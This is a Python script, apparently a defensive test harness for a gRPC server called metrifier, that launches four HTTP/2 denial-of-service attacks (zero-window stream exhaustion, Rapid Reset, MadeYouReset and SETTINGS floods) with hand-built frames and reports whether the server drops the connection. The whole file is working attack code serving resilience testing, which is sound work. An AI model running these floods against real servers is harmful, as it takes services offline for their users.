"""Attacks on a gRPC server by a client that shares nothing with metrifier: h2 for what h2 sends, bare frames for the rest.

usage: http2_attacks.py ATTACK HOST:PORT

Prints one line, `ended by the server after=N` or `not ended after=N`, and exits 0; anything else is a failure of the script.
"""

import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PRICES = "/metrifier.v1.StreamService/Prices"
LIST_PERSONS = "/metrifier.v1.PersonService/ListPersons"
DEADLINE = 20


def headers(path):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]


def message(content):
    return b"\0" + struct.pack(">I", len(content)) + content


def endless_prices():
    """A PricesRequest whose field 1, the count, is 10^15."""
    count, digits = 10**15, bytearray()
    while count > 127:
        digits.append(count & 127 | 128)
        count >>= 7
    return message(bytes([8, *digits, count]))


class Peer:
    def __init__(self, server, settings=None):
        host, port = server.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), DEADLINE)
        self.connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.connection.local_settings = h2.settings.Settings(client=True, initial_values=settings)
        self.connection.initiate_connection()
        self.gone = False
        self.flush()

    def flush(self):
        try:
            self.socket.sendall(self.connection.data_to_send())
        except OSError:
            self.gone = True

    def take(self, seconds):
        """Reads what has come, and tells whether the server has ended the connection."""
        while not self.gone and select.select([self.socket], [], [], seconds)[0]:
            seconds = 0
            try:
                received = self.socket.recv(1 << 16)
                events = self.connection.receive_data(received) if received else []
            except (OSError, h2.exceptions.ProtocolError):
                self.gone = True
                break
            ended = any(isinstance(event, h2.events.ConnectionTerminated) for event in events)
            self.gone = not received or ended
        return self.gone

    def call(self, path, content, end_stream=True):
        stream = self.connection.get_next_available_stream_id()
        self.connection.send_headers(stream, headers(path))
        self.connection.send_data(stream, content, end_stream=end_stream)
        return stream


def zero_window(server):
    """4,000 streams of prices that are not read."""
    peer = Peer(server, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    peer.take(1)
    number = 0
    for number in range(4000):
        peer.call(PRICES, endless_prices())
        if number % 100 == 0:
            peer.flush()
            if peer.take(0):
                break
    peer.flush()
    peer.take(1)
    return peer, number


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


class BarePeer:
    """Sends whatever it is told to, for h2 keeps to the rules."""

    def __init__(self, server):
        host, port = server.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), DEADLINE)
        self.gone = False
        self.send(PREFACE + frame(4, 0, 0, b""))

    def send(self, frames):
        try:
            self.socket.sendall(frames)
        except OSError:
            self.gone = True

    def take(self, seconds):
        while not self.gone and select.select([self.socket], [], [], seconds)[0]:
            seconds = 0
            try:
                self.gone = not self.socket.recv(1 << 16)
            except OSError:
                self.gone = True
        return self.gone


def flood(server, count, frames):
    peer = BarePeer(server)
    number = 0
    for number in range(count):
        peer.send(frames(number))
        if peer.gone or number % 100 == 0 and peer.take(0):
            break
    return peer, number


def rapid_reset(server):
    block = b"".join(literal(*header) for header in headers(LIST_PERSONS))

    def frames(number):
        stream = 2 * number + 1
        call = frame(1, 4, stream, block) + frame(0, 1, stream, message(b""))
        return call + frame(3, 0, stream, struct.pack(">I", 8))

    return flood(server, 35_700, frames)


def made_you_reset(server):
    block = b"".join(literal(*header) for header in headers(LIST_PERSONS))

    def frames(number):
        stream = 2 * number + 1
        return frame(1, 4, stream, block) + frame(8, 0, stream, struct.pack(">I", 0))

    return flood(server, 72_000, frames)


def settings(server):
    return flood(server, 50_000, lambda number: frame(4, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2)))


def is_gone_within(peer, seconds):
    """What was sent before the end comes first, and the end a while after it."""
    deadline = time.monotonic() + seconds
    while not peer.take(0.1) and time.monotonic() < deadline:
        pass
    return peer.gone


def main():
    attacks = {
        "zero-window": zero_window,
        "rapid-reset": rapid_reset,
        "made-you-reset": made_you_reset,
        "settings": settings,
    }
    peer, number = attacks[sys.argv[1]](sys.argv[2])
    ended = is_gone_within(peer, DEADLINE if sys.argv[1] != "zero-window" else 0)
    print("%s after=%d" % ("ended by the server" if ended else "not ended", number + 1), flush=True)
    if sys.argv[1] == "zero-window":
        sys.stdin.readline()  # stays until it is told to leave


if __name__ == "__main__":
    main()
